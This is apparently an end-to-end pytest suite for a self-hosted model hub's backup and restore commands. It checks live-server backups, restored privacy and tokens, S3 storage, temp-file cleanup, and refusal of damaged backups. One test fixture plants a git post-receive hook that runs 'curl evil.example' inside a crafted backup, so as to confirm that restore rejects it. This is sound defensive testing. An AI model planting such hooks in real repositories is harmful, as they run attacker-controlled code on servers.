"""``nbopen backup`` while the server serves (and a push is in flight), ``nbopen restore``
into a fresh data dir (and a fresh PostgreSQL database when the suite runs on PostgreSQL),
and everything a user relies on afterwards: clone, LFS, Hub downloads, the same token, a
private repository still private, the dataset viewer's rows. A truncated or corrupt backup
is refused with a clear error and leaves the target untouched.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from huggingface_hub import HfApi, hf_hub_download
from huggingface_hub.errors import RepositoryNotFoundError

from tests.datasets.support import create_dataset, get, push_files, wait_converted
from tests.support.client import api_create_repo, authed, db_rows, git, request
from tests.support.live import LiveServer

pytestmark = pytest.mark.e2e

WEIGHTS = os.urandom(3 * 1024 * 1024)
TABLE = os.urandom(1024 * 1024)
IN_FLIGHT = 40 * 1024 * 1024
# A competition's hidden ground truth: in the storage's private challenges/ key space.
GROUND_TRUTH = b"id,target,split\nr1,1,public\nr2,0,private\n"


@dataclass
class Deployment:
    source: LiveServer
    alice: str
    bob: str
    backup: Path
    manifest: dict[str, object]
    seconds: float
    inflight_oid: str


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def _populate(server: LiveServer, work: Path) -> tuple[str, str]:
    alice = server.create_user("alice")
    bob = server.create_user("bob")
    server.cli("org", "create", "acme", "--kind", "enterprise", "--owner", "alice")
    # A private model of the organization: two commits, an LFS file.
    api_create_repo(server, alice, "secret-model", organization="acme", private=True, type="model")
    model = work / "model"
    git("init", "-q", "-b", "main", str(model))
    git("lfs", "track", "*.bin", cwd=model)
    (model / "README.md").write_text("---\nlicense: mit\n---\n# secret\n")
    git("add", ".", cwd=model)
    git("commit", "-qm", "card", cwd=model)
    (model / "weights.bin").write_bytes(WEIGHTS)
    git("add", ".", cwd=model)
    git("commit", "-qm", "weights", cwd=model)
    git("push", "-q", authed(server, alice, "/acme/secret-model.git"), "main", cwd=model)
    # A public code repository: git history and an LFS file.
    api_create_repo(server, alice, "tools")
    tools = work / "tools"
    git("init", "-q", "-b", "main", str(tools))
    git("lfs", "track", "*.dat", cwd=tools)
    for n in range(3):
        (tools / "run.py").write_text(f"print({n})\n")
        git("add", ".", cwd=tools)
        git("commit", "-qm", f"step {n}", cwd=tools)
    (tools / "table.dat").write_bytes(TABLE)
    git("add", ".", cwd=tools)
    git("commit", "-qm", "table", cwd=tools)
    git("push", "-q", authed(server, alice, "/alice/tools.git"), "main", cwd=tools)
    # A public dataset, converted by the server.
    create_dataset(server, alice, "harbour")
    push_files(
        server,
        alice,
        "alice",
        "harbour",
        work / "harbour",
        {"train.csv": "crane,moves\n岸桥1,41\n岸桥2,37\n".encode()},
    )
    wait_converted(server, "alice/harbour")
    (work / "gt.csv").write_bytes(GROUND_TRUTH)
    subprocess.run(
        [sys.executable, "-m", "nbopen.cli.main", "compete", "create", "harbour-cup",
         "--endpoint", server.url, "--token", alice, "--org", "acme",
         "--dataset", "alice/harbour", "--ground-truth", str(work / "gt.csv")],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    return alice, bob


def _push_in_flight(server: LiveServer, token: str, work: Path) -> tuple[threading.Thread, str]:
    """Start pushing a commit with a 40 MB LFS file to alice/tools; return (thread, oid)."""
    clone = work / "inflight"
    git("clone", "-q", authed(server, token, "/alice/tools.git"), str(clone))
    git("lfs", "track", "*.bin", cwd=clone)
    data = os.urandom(IN_FLIGHT)
    (clone / "big.bin").write_bytes(data)
    git("add", ".", cwd=clone)
    git("commit", "-qm", "big file", cwd=clone)
    thread = threading.Thread(
        target=git, args=("push", "-q", "origin", "main"), kwargs={"cwd": clone}, daemon=True
    )
    thread.start()
    return thread, _sha(data)


@pytest.fixture(scope="module")
def deployment(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Deployment]:
    source = LiveServer(tmp_path_factory.mktemp("backup-source")).start()
    try:
        work = tmp_path_factory.mktemp("backup-work")
        alice, bob = _populate(source, work)
        thread, oid = _push_in_flight(source, alice, work)
        deadline = time.monotonic() + 60
        while not list((source.data_dir / "tmp").glob("lfs-*")) and thread.is_alive():
            assert time.monotonic() < deadline, "the LFS upload never started"
            time.sleep(0.02)
        backup = tmp_path_factory.mktemp("backups") / "nightly"
        started = time.monotonic()
        result = source.cli("backup", str(backup))
        seconds = time.monotonic() - started
        thread.join(timeout=300)
        manifest = json.loads(result.stdout)
        yield Deployment(source, alice, bob, backup, manifest, seconds, oid)
    finally:
        source.stop()


@pytest.fixture(scope="module")
def restored(
    deployment: Deployment, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[LiveServer]:
    # The same secret key, as an operator restoring a deployment keeps its configuration.
    env = {"NBOPEN_SECRET_KEY": deployment.source.env["NBOPEN_SECRET_KEY"]}
    server = LiveServer(tmp_path_factory.mktemp("restored"), env=env)
    try:
        server.cli("migrate")  # a schema without data counts as empty
        server.cli("restore", str(deployment.backup))
        # Leftovers of a crash: a stale upload temp file goes at start, a fresh one stays.
        tmp = server.data_dir / "tmp"
        tmp.mkdir(parents=True, exist_ok=True)
        (tmp / "lfs-stale-crash").write_bytes(b"x" * 1000)
        old = time.time() - 3 * 24 * 3600
        os.utime(tmp / "lfs-stale-crash", (old, old))
        (tmp / "lfs-fresh-upload").write_bytes(b"y")
        server.start()
        yield server
    finally:
        server.stop()


def test_manifest_describes_the_backup(deployment: Deployment) -> None:
    manifest = deployment.manifest
    counts = manifest["counts"]
    assert isinstance(counts, dict)
    assert counts["repositories"] == 3
    assert counts["lfs_objects"] >= 3  # the weights, the table and the dataset's Parquet
    assert counts["data_files"] >= 1  # the conversion's outputs
    assert counts["challenge_objects"] == 1  # the competition's ground truth
    database = manifest["database"]
    assert isinstance(database, dict)
    expected = "postgresql" if "NBOPEN_DATABASE_URL" in deployment.source.env else "sqlite"
    assert database["kind"] == expected
    assert (deployment.backup / "MANIFEST.json").is_file()
    print(f"\nbackup of the test deployment took {deployment.seconds:.2f} s: {manifest['seconds']}")


def test_restored_server_serves_what_was_backed_up(
    deployment: Deployment, restored: LiveServer, tmp_path: Path
) -> None:
    alice, bob = deployment.alice, deployment.bob
    # The same token logs in.
    assert HfApi(endpoint=restored.url, token=alice).whoami()["name"] == "alice"
    # Clone with history, LFS content included.
    clone = tmp_path / "model"
    git("clone", "-q", authed(restored, alice, "/acme/secret-model.git"), str(clone))
    assert (clone / "weights.bin").read_bytes() == WEIGHTS
    assert git("rev-list", "--count", "HEAD", cwd=clone).stdout.strip() == "2"
    git("lfs", "fsck", cwd=clone)
    # Hub download of the LFS file.
    path = hf_hub_download(
        "acme/secret-model", "weights.bin", endpoint=restored.url, token=alice, cache_dir=tmp_path
    )
    assert Path(path).read_bytes() == WEIGHTS
    # Still private: 404 to another user, 401 to the anonymous.
    with pytest.raises(RepositoryNotFoundError):
        HfApi(endpoint=restored.url, token=bob).model_info("acme/secret-model")
    assert request(restored.url + "/api/models/acme/secret-model").status == 401
    # The public code repository, whichever side of the backup the in-flight push fell on:
    # its history is whole and any LFS file it names can be fetched.
    tools = tmp_path / "tools"
    git("clone", "-q", restored.url + "/alice/tools", str(tools))
    git("fsck", "--no-progress", cwd=tools)
    assert (tools / "table.dat").read_bytes() == TABLE  # anonymous LFS download
    assert int(git("rev-list", "--count", "HEAD", cwd=tools).stdout) >= 4
    if (tools / "big.bin").exists():
        assert hashlib.sha256((tools / "big.bin").read_bytes()).hexdigest() == (
            deployment.inflight_oid
        )
    # The dataset viewer's rows.
    status, body, _ = get(
        restored, "rows", None, dataset="alice/harbour", config="default", split="train"
    )
    assert status == 200, body
    assert [row["row"]["crane"] for row in body["rows"]] == ["岸桥1", "岸桥2"]
    # The competition's ground truth is back in the vault (the host's detail names it).
    oid = _sha(GROUND_TRUTH)
    vaulted = restored.data_dir / "lfs" / "challenges" / oid[:2] / oid[2:4] / oid
    assert vaulted.read_bytes() == GROUND_TRUTH


def test_restored_server_accepts_new_pushes(restored: LiveServer, tmp_path: Path) -> None:
    token = restored.token("alice")
    create_dataset(restored, token, "after-restore")
    files = {"train.csv": b"crane,moves\nx,1\n"}
    push_files(restored, token, "alice", "after-restore", tmp_path / "more", files)
    assert wait_converted(restored, "alice/after-restore")["splits"]


def test_start_removes_stale_temp_files_only(restored: LiveServer) -> None:
    tmp = restored.data_dir / "tmp"
    assert not (tmp / "lfs-stale-crash").exists()
    assert (tmp / "lfs-fresh-upload").exists()
    gc = restored.cli("gc")
    assert json.loads(gc.stdout)["files"] == 0
    assert (tmp / "lfs-fresh-upload").exists()


def test_restore_refuses_a_non_empty_target(deployment: Deployment, restored: LiveServer) -> None:
    result = restored.cli("restore", str(deployment.backup), check=False)
    assert result.returncode == 1
    assert "not empty" in result.stderr and "--force" in result.stderr


def _untouched(server: LiveServer) -> None:
    assert not (server.data_dir / "git").exists() or not any((server.data_dir / "git").iterdir())
    assert not (server.data_dir / "datasets").exists()
    if "NBOPEN_DATABASE_URL" in server.env:
        tables = db_rows(
            server, "SELECT COUNT(*) FROM information_schema.tables WHERE table_schema = 'public'"
        )
        assert tables == [(0,)]
    else:
        sqlite = server.data_dir / "nbopen.sqlite3"
        assert not sqlite.exists() or sqlite.stat().st_size == 0


def test_forced_restore_keeps_what_it_replaces(deployment: Deployment, tmp_path: Path) -> None:
    target = LiveServer(tmp_path / "target")
    try:
        target.create_user("carol")
        result = target.cli("restore", "--force", str(deployment.backup))
        report = json.loads(result.stdout)
        assert report["set_aside"], report
        (aside,) = (target.data_dir).glob("pre-restore-*")
        assert any((aside / "database").iterdir())
        assert target.token("alice")  # the backup's users are there now
        carol = target.cli("token", "create", "carol", check=False)
        assert carol.returncode == 1  # and the replaced deployment's are not
    finally:
        target.stop()


def _list_extra_file(backup: Path, rel: str, data: bytes) -> None:
    """Add a file to a backup and to its lists, with right checksums (a crafted backup)."""
    (backup / rel).parent.mkdir(parents=True, exist_ok=True)
    (backup / rel).write_bytes(data)
    files = backup / "files.tsv"
    listing = files.read_bytes() + f"{_sha(data)}\t{len(data)}\t{rel}\n".encode()
    files.write_bytes(listing)
    manifest = json.loads((backup / "MANIFEST.json").read_text())
    manifest["files"]["count"] += 1
    manifest["files"]["list_sha256"] = _sha(listing)
    (backup / "MANIFEST.json").write_text(json.dumps(manifest))


@pytest.mark.parametrize(
    "damage", ["truncated object", "corrupt database", "no manifest", "crafted path"]
)
def test_damaged_backup_is_refused_and_target_untouched(
    deployment: Deployment, tmp_path: Path, damage: str
) -> None:
    copy = tmp_path / "copy"
    shutil.copytree(deployment.backup, copy)
    if damage == "truncated object":
        victim = max((p for p in (copy / "objects").rglob("*") if p.is_file()), key=_size)
        with open(victim, "r+b") as fh:
            fh.truncate(victim.stat().st_size // 2)
        expected = "truncated or corrupt"
    elif damage == "corrupt database":
        victim = next(p for p in copy.iterdir() if p.name.startswith("database."))
        data = bytearray(victim.read_bytes())
        data[len(data) // 2] ^= 0xFF
        victim.write_bytes(bytes(data))
        expected = "does not match its sha256"
    elif damage == "no manifest":
        (copy / "MANIFEST.json").unlink()
        expected = "not a complete NBopen backup"
    else:
        _list_extra_file(copy, "data/hooks/post-receive", b"#!/bin/sh\ncurl evil.example\n")
        expected = "which no NBopen backup writes"
    target = LiveServer(tmp_path / "target")
    try:
        result = target.cli("restore", str(copy), check=False)
        assert result.returncode == 1
        assert expected in result.stderr, result.stderr
        assert "Traceback" not in result.stderr
        assert result.stderr.splitlines()[-1].startswith("nbopen: error: ")
        _untouched(target)
    finally:
        target.stop()


def _size(path: Path) -> int:
    return path.stat().st_size


@pytest.fixture(scope="module")
def moto_endpoint() -> Iterator[str]:
    from moto.moto_server.threaded_moto_server import ThreadedMotoServer

    from tests.support.live import free_port

    port = free_port()
    moto = ThreadedMotoServer(ip_address="127.0.0.1", port=port, verbose=False)
    moto.start()
    try:
        yield f"http://127.0.0.1:{port}"
    finally:
        moto.stop()


def _s3_env(endpoint: str, bucket: str) -> dict[str, str]:
    import boto3

    boto3.client(
        "s3",
        endpoint_url=endpoint,
        region_name="us-east-1",
        aws_access_key_id="test",
        aws_secret_access_key="test",
    ).create_bucket(Bucket=bucket)
    return {
        "NBOPEN_STORAGE_URL": f"s3://{bucket}/lfs?endpoint={endpoint}",
        "NBOPEN_S3_ACCESS_KEY": "test",
        "NBOPEN_S3_SECRET_KEY": "test",
    }


@pytest.mark.filterwarnings("ignore::DeprecationWarning")  # httpx2 inside the client's LFS PUT
def test_round_trip_with_s3_storage(moto_endpoint: str, tmp_path: Path) -> None:
    """LFS objects and Xet xorbs in a bucket are backed up through the storage backend and
    restored into another bucket."""
    import io

    source = LiveServer(tmp_path / "s3-source", env=_s3_env(moto_endpoint, "before")).start()
    # A NUL byte up front: the Hub's rule stores a file without one in its first 512 bytes
    # as a regular git file, not in LFS/Xet.
    lfs_data, xet_data = b"\0" + os.urandom(2_000_000), b"\0" + os.urandom(3_000_000)
    try:
        token = source.create_user("dora")
        api = HfApi(endpoint=source.url, token=token)
        api.create_repo("dora/weights", private=True)
        api.upload_file(
            path_or_fileobj=io.BytesIO(lfs_data), path_in_repo="lfs.bin", repo_id="dora/weights"
        )
        xet_file = tmp_path / "xet.bin"
        xet_file.write_bytes(xet_data)
        api.upload_file(
            path_or_fileobj=str(xet_file), path_in_repo="xet.bin", repo_id="dora/weights"
        )
        assert not list((source.data_dir).rglob(_sha(lfs_data)))  # the bytes live in S3
        manifest = json.loads(source.cli("backup", str(tmp_path / "backup")).stdout)
        counts = manifest["counts"]
        assert counts["lfs_objects"] >= 1 and counts["xet_xorbs"] >= 1, counts
    finally:
        source.stop()
    env = {**_s3_env(moto_endpoint, "after"), "NBOPEN_SECRET_KEY": source.env["NBOPEN_SECRET_KEY"]}
    target = LiveServer(tmp_path / "s3-target", env=env)
    try:
        target.cli("restore", str(tmp_path / "backup"))
        target.start()
        for name, data in (("lfs.bin", lfs_data), ("xet.bin", xet_data)):
            path = hf_hub_download(
                "dora/weights",
                name,
                endpoint=target.url,
                token=token,
                cache_dir=tmp_path / "cache" / name,
            )
            assert Path(path).read_bytes() == data
    finally:
        target.stop()


def _holders(path: Path) -> list[int]:
    """Pids of the processes that have ``path`` open."""
    target = path.stat()
    pids = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            try:
                st = os.stat(f"/proc/{pid}/fd/{fd}")
            except OSError:
                continue
            if (st.st_dev, st.st_ino) == (target.st_dev, target.st_ino):
                pids.append(int(pid))
                break
    return pids


def test_kill_9_during_lfs_upload_leaves_a_temp_file_that_gc_removes(tmp_path: Path) -> None:
    """Issue 20's observation: a worker killed mid-upload leaves its temp file for good.
    `nbopen gc` keeps it while the upload is writing it (open), removes it once orphaned."""
    import signal
    import socket
    from urllib.parse import urlsplit

    server = LiveServer(tmp_path / "kill").start()
    try:
        token = server.create_user("erin")
        api_create_repo(server, token, "big")
        size, oid = 50 * 1024 * 1024, "ab" * 32  # never completed, so never checked
        response = request(
            f"{server.url}/erin/big.git/info/lfs/objects/batch",
            "POST",
            json_body={"operation": "upload", "objects": [{"oid": oid, "size": size}]},
            headers={"Accept": "application/vnd.git-lfs+json"},
            basic=token,
        )
        href = response.json()["objects"][0]["actions"]["upload"]["href"]
        parts = urlsplit(href)
        with socket.create_connection((parts.hostname or "", parts.port or 80)) as sock:
            head = (
                f"PUT {parts.path}?{parts.query} HTTP/1.1\r\nHost: {parts.netloc}\r\n"
                f"Content-Type: application/octet-stream\r\nContent-Length: {size}\r\n\r\n"
            )
            sock.sendall(head.encode() + os.urandom(8 * 1024 * 1024))
            deadline = time.monotonic() + 60
            staged: list[Path] = []
            while not staged or staged[0].stat().st_size < 4 * 1024 * 1024:
                assert time.monotonic() < deadline, "the upload was not staged"
                staged = list((server.data_dir / "tmp").glob(f"lfs-{oid[:12]}-*"))
                time.sleep(0.05)
            (temp,) = staged
            # In flight: even with no grace period, a file a process has open stays.
            report = json.loads(server.cli("gc", "--grace-seconds", "0").stdout)
            assert report["kept_open"] >= 1 and temp.exists()
            (worker,) = _holders(temp)
            os.kill(worker, signal.SIGKILL)
            deadline = time.monotonic() + 30
            while _holders(temp):
                assert time.monotonic() < deadline
                time.sleep(0.05)
        assert temp.exists()  # the orphan the issue saw
        assert json.loads(server.cli("gc").stdout)["files"] == 0  # within the grace period
        assert temp.exists()
        report = json.loads(server.cli("gc", "--grace-seconds", "0").stdout)
        assert report["files"] >= 1 and report["bytes"] >= 4 * 1024 * 1024
        assert not temp.exists()
    finally:
        server.stop()
